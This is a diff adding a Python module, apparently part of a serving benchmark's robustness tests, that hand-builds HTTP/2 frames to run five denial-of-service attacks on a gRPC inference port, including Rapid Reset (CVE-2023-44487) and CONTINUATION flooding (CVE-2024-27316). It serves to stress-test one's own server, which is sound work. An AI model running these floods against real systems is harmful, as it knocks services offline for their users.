@@ -1,0 +1,92 @@
+"""What hostile clients do on the gRPC port: frames of HTTP/2 that no client's library sends. None has the token."""
+
+import asyncio
+import struct
+
+from benchmarks.serving.attacks import Attack, Target, again_and_again, connected, flood
+
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
+_END_STREAM, _END_HEADERS = 1, 4
+_METHOD = "/inference.GRPCInferenceService/ModelInfer"
+_STREAMS = 100
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """A frame of HTTP/2 (RFC 9113, 4.1)."""
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def head(path: str = _METHOD) -> bytes:
+    """The header block of a call: literals that are not indexed (RFC 7541, 6.2.2)."""
+    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x"}
+    fields |= {"te": "trailers", "content-type": "application/grpc"}
+    return b"".join(
+        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+        for name, value in fields.items()
+    )
+
+
+_HELLO = _PREFACE + frame(_SETTINGS, 0, 0)
+_BEGUN = struct.pack(">BI", 0, 2_000_000)  # of a message that is not compressed, whose length this is
+
+
+def _calls(*frames: tuple[int, int, bytes], end: int = _STREAMS) -> bytes:
+    """For each of the streams that a client may open: its head and then these frames."""
+    return b"".join(
+        frame(_HEADERS, _END_HEADERS, stream, head())
+        + b"".join(frame(kind, flags, stream, data) for kind, flags, data in frames)
+        for stream in range(1, 2 * end, 2)
+    )
+
+
+@again_and_again(100)
+async def half_messages(target: Target) -> None:
+    """A hundred calls a connection, each the beginning of a message of two megabytes."""
+    async with connected(target, target.grpc_port) as (reader, writer):
+        writer.write(_HELLO + _calls((_DATA, 0, _BEGUN + b"x" * 600)))
+        await writer.drain()
+        await asyncio.wait_for(reader.read(1), 5)
+        await asyncio.sleep(1)
+
+
+@again_and_again(8)
+async def resets(target: Target) -> None:
+    """Calls that are taken back at once, on and on (CVE-2023-44487)."""
+    async with connected(target, target.grpc_port) as (_, writer):
+        writer.write(_HELLO)
+        await flood(target, writer, _calls((_RESET, 0, struct.pack(">I", 8))))
+
+
+@again_and_again(8)
+async def continuations(target: Target) -> None:
+    """A head that never ends (CVE-2024-27316)."""
+    async with connected(target, target.grpc_port) as (_, writer):
+        writer.write(_HELLO + frame(_HEADERS, 0, 1, head()))
+        await flood(target, writer, frame(_CONTINUATION, 0, 1, b"\x00\x01a\x7f" + b"b" * 127) * 100)
+
+
+@again_and_again(40)
+async def pings(target: Target) -> None:
+    """Pings and settings whose answers are not read."""
+    async with connected(target, target.grpc_port) as (_, writer):
+        writer.transport.pause_reading()  # type: ignore[attr-defined]
+        writer.write(_HELLO)
+        await flood(target, writer, (frame(_PING, 0, 0, b"8 bytes!") + frame(_SETTINGS, 0, 0)) * 500)
+
+
+@again_and_again(200)
+async def idle_calls(target: Target) -> None:
+    """Connections that open a call and send nothing more."""
+    async with connected(target, target.grpc_port) as (reader, writer):
+        writer.write(_HELLO + frame(_HEADERS, _END_HEADERS, 1, head()))
+        await asyncio.wait_for(reader.read(), max(0.1, target.until - asyncio.get_running_loop().time()))
+
+
+GRPC_ATTACKS: dict[str, Attack] = {
+    "grpc-half-messages": half_messages,
+    "grpc-resets": resets,
+    "grpc-continuations": continuations,
+    "grpc-pings": pings,
+    "grpc-idle-calls": idle_calls,
+}
